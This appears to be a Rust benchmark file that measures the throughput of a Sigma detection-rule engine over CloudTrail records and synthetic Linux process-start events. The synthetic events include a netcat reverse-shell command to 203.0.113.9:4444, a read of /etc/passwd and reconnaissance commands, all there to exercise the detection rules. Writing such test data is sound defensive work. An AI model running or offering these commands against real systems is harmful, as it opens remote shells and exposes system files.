#![allow(clippy::expect_used, clippy::unwrap_used)]
//! Events per second through the whole rule set on one core:
//! - `cloudtrail`: SigmaHQ's 57 CloudTrail rules + Vigil's pack over the Panther CloudTrail
//!   sample (431 records) repeated to ~100k events;
//! - `host`: SigmaHQ's Linux process_creation + auditd rules over process starts repeated to
//!   ~100k events.
//!
//! `cargo bench -p vigil-sigma --bench matching` (needs ../shared/data and ../shared/peers).

use criterion::measurement::{Measurement, ValueFormatter, WallTime};
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use std::hint::black_box;
use std::path::{Path, PathBuf};
use vigil_ingest::{FileContext, Limits, parse_cloudtrail_bytes};
use vigil_model::Event;
use vigil_sigma::{RuleSet, Scratch};

const TARGET_EVENTS: usize = 100_000;

/// Time this thread spent on a CPU (`/proc/thread-self/schedstat`, nanoseconds): on a shared,
/// overloaded machine wall time mostly measures the queue for a core; this measures the work.
struct CpuTime(WallTime);

fn on_cpu_ns() -> u64 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|s| s.split_whitespace().next().and_then(|v| v.parse().ok()))
        .unwrap_or(0)
}

impl Measurement for CpuTime {
    type Intermediate = u64;
    type Value = u64;
    fn start(&self) -> u64 {
        on_cpu_ns()
    }
    fn end(&self, start: u64) -> u64 {
        on_cpu_ns().saturating_sub(start)
    }
    fn add(&self, a: &u64, b: &u64) -> u64 {
        a + b
    }
    fn zero(&self) -> u64 {
        0
    }
    fn to_f64(&self, v: &u64) -> f64 {
        *v as f64
    }
    fn formatter(&self) -> &dyn ValueFormatter {
        self.0.formatter()
    }
}

fn shared(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared")
        .join(rel)
}

fn repeat(events: Vec<Event>) -> Vec<Event> {
    events.iter().cycle().take(TARGET_EVENTS).cloned().collect()
}

fn cloudtrail_events() -> Vec<Event> {
    let bytes = std::fs::read(shared("peers/samples/cloudtrail_panther.jsonl")).unwrap();
    let (events, _) = parse_cloudtrail_bytes(&bytes, &FileContext::new(&Limits::default()));
    assert!(events.len() > 400, "{}", events.len());
    repeat(events)
}

fn host_events() -> Vec<Event> {
    use vigil_model::host::{HostEvent, HostEventKind, Process};
    let cmds: &[&[&str]] = &[
        &["/usr/bin/ls", "ls", "-la", "/var/www"],
        &["/usr/bin/bash", "bash", "-c", "echo hi"],
        &["/usr/bin/curl", "curl", "-s", "https://example.com/health"],
        &[
            "/usr/bin/python3",
            "python3",
            "/opt/app/worker.py",
            "--queue",
            "jobs",
        ],
        &["/usr/sbin/sshd", "sshd", "-D"],
        &["/usr/bin/whoami", "whoami"],
        &["/usr/bin/id", "id"],
        &["/usr/bin/uname", "uname", "-a"],
        &["/usr/bin/cat", "cat", "/etc/passwd"],
        &["/usr/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
        &["/usr/bin/git", "git", "pull", "--ff-only"],
        &["/usr/bin/node", "node", "/srv/app/server.js"],
        &["/usr/bin/grep", "grep", "-r", "TODO", "/srv/app"],
        &["/usr/bin/tar", "tar", "czf", "/tmp/backup.tgz", "/srv/app"],
        &["/usr/bin/systemctl", "systemctl", "status", "nginx"],
        &["/usr/bin/ps", "ps", "aux"],
    ];
    let events: Vec<Event> = cmds
        .iter()
        .enumerate()
        .map(|(i, c)| Event {
            id: format!("h{i}"),
            time: vigil_model::Timestamp::from_secs(1_700_000_000),
            source: vigil_model::EventSource::Agent,
            body: vigil_model::EventBody::Host(HostEvent {
                host_id: "i-0abc".into(),
                hostname: None,
                kind: HostEventKind::ProcessStart {
                    process: Process {
                        pid: 1000 + i as u32,
                        ppid: 1,
                        uid: 33,
                        euid: 33,
                        exe: c[0].into(),
                        argv: c[1..].iter().map(|s| s.to_string()).collect(),
                        cwd: Some("/srv/app".into()),
                        user: Some("www-data".into()),
                        container_id: None,
                        image: None,
                        pid_ns: None,
                        mnt_ns: None,
                        start_time: None,
                        stdin: None,
                        stdout: None,
                        parent_exe: None,
                    },
                },
            }),
        })
        .collect();
    repeat(events)
}

fn run<M: Measurement>(c: &mut Criterion<M>, name: &str, rules: &RuleSet, events: &[Event]) {
    let clock = if std::any::type_name::<M>().contains("CpuTime") {
        "cpu-time"
    } else {
        "wall-time"
    };
    let mut g = c.benchmark_group(format!("rules/{clock}"));
    g.throughput(Throughput::Elements(events.len() as u64));
    g.sample_size(20);
    let mut scratch = Scratch::default();
    let mut hits = Vec::with_capacity(64);
    g.bench_function(name, |b| {
        b.iter(|| {
            let mut n = 0usize;
            for e in events {
                hits.clear();
                rules.matches_with(black_box(e), &mut scratch, &mut hits);
                n += hits.len();
            }
            black_box(n)
        })
    });
    g.finish();
}

fn benches<M: Measurement>(c: &mut Criterion<M>) {
    let (ct_rules, _) = RuleSet::load_paths(&[
        shared("data/sigma/rules/cloud/aws/cloudtrail"),
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/cloudtrail"),
    ]);
    let ct = cloudtrail_events();
    eprintln!("cloudtrail: {} rules, {} events", ct_rules.len(), ct.len());
    run(c, "cloudtrail", &ct_rules, &ct);

    let (host_rules, _) = RuleSet::load_paths(&[
        shared("data/sigma/rules/linux/process_creation"),
        shared("data/sigma/rules/linux/auditd"),
    ]);
    let host = host_events();
    eprintln!("host: {} rules, {} events", host_rules.len(), host.len());
    run(c, "host", &host_rules, &host);
}

criterion_group!(wall, benches);
criterion_group! {
    name = cpu;
    config = Criterion::default().with_measurement(CpuTime(WallTime));
    targets = benches
}
criterion_main!(wall, cpu);
